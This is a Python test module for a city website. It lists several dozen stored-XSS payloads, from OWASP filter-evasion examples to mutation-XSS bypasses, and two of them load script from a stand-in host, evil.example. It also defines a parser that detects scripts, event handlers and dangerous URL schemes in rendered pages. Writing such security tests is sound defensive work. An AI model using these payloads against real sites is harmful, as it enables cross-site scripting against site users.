"""Real stored-XSS payloads, and a check that a rendered page holds nothing a browser would run.

The payloads come from the OWASP XSS filter evasion cheat sheet and known mutation-XSS bypasses;
each stays under 75 characters so it fits the shortest field a user writes (a display name).
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<<script>alert(1);//<</script>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">beweeg</p>',
    "<b onclick=alert(1)>vet</b>",
    '<a href="https://harelbeke.be" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href=" javascript:alert(1)">klik</a>',
    '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    '<a href="jav\tascript:alert(1)">klik</a>',
    '<a href="&#x6A;avascript:alert(1)">klik</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "javascript:alert(1)";</style>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "{{7*7}}<img src=x onerror=alert(1)>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "base", "applet", "style", "link", "meta"}
CONTROL = re.compile(r"[\x00-\x20]+")


class ActiveContent(HTMLParser):
    """Collects everything in a page that could run: scripts, handlers, script URLs, frames, styles."""

    def __init__(self, allowed_head: bool = True):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.allowed_head = allowed_head
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self._tag(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, attrs)

    def _tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self.in_script = True
            if not (values.get("src") or "").startswith("/static/"):
                self.problems.append(f"<script {attrs}>")
        if tag in FORBIDDEN_TAGS and not self._own_head_tag(tag, values):
            self.problems.append(f"<{tag} {attrs}>")
        for name, value in attrs:
            name = name.lower()
            self.text.append(value or "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value:
                url = CONTROL.sub("", value).lower()
                if url.startswith(DANGEROUS_SCHEMES) or name == "srcdoc":
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and re.search(r"expression|javascript:|url\(", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>")
            if name == "http-equiv":
                self.problems.append(f"<{tag} http-equiv={value!r}>")

    def _own_head_tag(self, tag: str, values: dict) -> bool:
        """The site's own <meta> tags and its stylesheets and icon from /static/ or the city's face (/stad/)."""
        if not self.allowed_head:
            return False
        if tag == "meta":
            return "http-equiv" not in values
        if tag == "link":
            return values.get("rel") in ("stylesheet", "icon") and (values.get("href") or "").startswith(
                ("/static/", "/stad/"))
        return False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:60]!r}")
        self.text.append(data)


def active_content(html: str, allowed_head: bool = True) -> list[str]:
    parser = ActiveContent(allowed_head)
    parser.feed(html)
    parser.close()
    return parser.problems


def shown_values(html: str) -> str:
    """The text and attribute values of a page, as a browser holds them (entities decoded)."""
    parser = ActiveContent()
    parser.feed(html)
    parser.close()
    return "".join(parser.text)


@dataclass
class WritePath:
    """One field a user writes that the site later shows.

    `write(ctx, value, n)` stores `value` the way a user does (through the forms, as the role who
    may) and returns the responses of every page that shows it; `n` makes e-mails and slugs unique.
    `ctx` has client_as, make_user, make_process, login and world (the route table's world).
    """

    name: str
    write: Callable[[object, str, int], list]
    max_length: int = 80
